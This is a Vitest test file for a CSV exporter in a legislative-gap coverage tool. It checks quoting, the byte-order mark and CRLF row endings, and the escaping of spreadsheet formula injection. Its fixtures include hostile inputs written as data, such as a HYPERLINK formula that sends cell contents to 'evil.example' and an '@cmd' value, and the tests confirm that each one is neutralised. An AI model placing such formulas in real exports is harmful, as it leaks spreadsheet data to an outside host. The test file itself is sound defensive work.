import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { coverageCsv, type CoverageReportInput } from '../../../shared/gaps/report';
import { csvCell, csvFile } from '../../../shared/text/csv';

// Each kind of cell, and how it must be written.
const CELLS: [what: string, input: string | number, written: string][] = [
  ['plain text', 'Статья 5', 'Статья 5'],
  ['empty', '', ''],
  ['a comma', 'Статья 17, пункт 1', '"Статья 17, пункт 1"'],
  ['a semicolon (the separator of Excel in ru/kk locales)', 'a; b', '"a; b"'],
  ['a double quote', 'Почему "так"', '"Почему ""так"""'],
  ['a line break', 'раз\nдва', '"раз\nдва"'],
  ['a formula (=)', '=1+1', `"'=1+1"`],
  ['a formula (+)', '+7 701 000 00 00', `"'+7 701 000 00 00"`],
  ['a formula (-)', '-2+3', `"'-2+3"`],
  ['a list dash in a law\'s text (-)', '- подпункт 1)', `"'- подпункт 1)"`],
  ['a formula (@)', '@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
  ['a leading tab', '\t=1', `"'\t=1"`],
  ['a leading carriage return', '\r=1', `"'\r=1"`],
  ['a link formula with quotes', '=HYPERLINK("http://evil.example","открыть")', `"'=HYPERLINK(""http://evil.example"",""открыть"")"`],
  ['"=" later in the text (not a formula)', 'a=b', 'a=b'],
  ['a string that looks negative is text', '-5', `"'-5"`],
  ['a number, negative included, is written as it is', -5, '-5'],
  ['a count', 12, '12'],
];

describe('csvCell', () => {
  it.each(CELLS)('%s', (_what, input, written) => {
    expect(csvCell(input)).toBe(written);
  });
});

/** The cells of a CSV file as Python's csv module (an independent RFC 4180 reader) reads them. */
function readWithPython(csv: string): string[][] {
  const script = 'import csv,io,json,sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))';
  return JSON.parse(execFileSync('python3', ['-c', script], { input: csv.replace(/^\uFEFF/, ''), encoding: 'utf8' })) as string[][];
}

describe('csvFile', () => {
  it('every cell reads back as written, the neutralised ones with their apostrophe', () => {
    const rows = [CELLS.map(([, input]) => input)];
    const read = readWithPython(csvFile(rows));
    // What the table says is written, unquoted by hand: the reader must agree with it.
    expect(read).toEqual([CELLS.map(([, , written]) => (written.startsWith('"') ? written.slice(1, -1).replace(/""/g, '"') : written))]);
  });

  it('starts with a byte-order mark and ends every row with CRLF', () => {
    expect(csvFile([['a', 'b'], ['c', 'd']])).toBe('\uFEFFa,b\r\nc,d\r\n');
  });
});

describe('the coverage report as CSV', () => {
  const input: CoverageReportInput = {
    title: 'Пакет',
    perGap: [],
    uncoveredGaps: [],
    gapNames: new Map(),
    amendments: [
      { label: 'Статья 5, пункт 2', lang: 'ru', kind: 'words', gapCodes: ['LEG_GAP'], justification: '=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")', evidence: '@cmd' },
      { label: 'Статья 6', lang: 'ru', kind: 'repeal', gapCodes: [], justification: '- норма устарела', evidence: '+ отчёт' },
    ],
  };

  it('a justification "=HYPERLINK(…)" is exported as text, not as a formula', () => {
    const rows = readWithPython(coverageCsv(input, 'ru'));
    expect(rows[1]).toEqual(['Статья 5, пункт 2', 'ru', 'words', 'LEG_GAP', `'=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")`, "'@cmd"]);
    expect(rows[2]).toEqual(['Статья 6', 'ru', 'repeal', '', "'- норма устарела", "'+ отчёт"]);
    // No cell of the file begins with a character a spreadsheet reads as the start of a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
